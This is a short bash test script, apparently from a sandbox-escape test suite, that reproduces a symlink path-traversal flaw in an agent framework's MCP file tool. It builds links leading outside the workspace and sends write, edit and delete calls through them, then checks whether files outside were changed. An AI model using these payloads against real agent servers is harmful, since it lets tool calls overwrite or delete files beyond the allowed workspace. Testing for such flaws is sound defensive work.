#!/bin/bash
# CVE-2026-108600, open-multi-agent: the file tool resolved what existed of a path and appended the rest,
# so that a dangling link in the middle led outside.
# Escaped: a tool call of the MCP server creates or changes something outside.
# shellcheck disable=SC2317,SC2034
NEEDS="filecalls service"
. "${0%/*}/../lib.sh"
prepare() { echo original >"$OUT/file"; ln -s "$OUT/made" "$WS/f"; ln -s "$OUT" "$WS/d"; ln -s "$OUT/nodir" "$WS/e"; ln -s "$OUT/file" "$WS/g"; }
attack()
{
    local p
    if [ "$BOX" = none ]; then
        for p in f d/made g; do echo evil >"$WS/$p"; done
        return
    fi
    mcp_call write '{"file_path":"f","content":"evil"}' '{"file_path":"d/made","content":"evil"}' '{"file_path":"e/x","content":"evil"}' '{"file_path":"g","content":"evil"}' \
        '{"file_path":"d/../d/made","content":"evil"}' >"$R/said"
    mcp_call edit '{"file_path":"g","old_string":"original","new_string":"evil"}' >>"$R/said"
    mcp_call delete '{"file_path":"d/file"}' '{"file_path":"g/../d/file"}' >>"$R/said"
    grep -q '"jsonrpc"' "$R/said" || idle=1
}
escaped() { [ "$(cat "$OUT/file" 2>&1)" != original ] || [ "$(ls -A "$OUT")" != file ]; }
attempt "write, edit and delete through links"
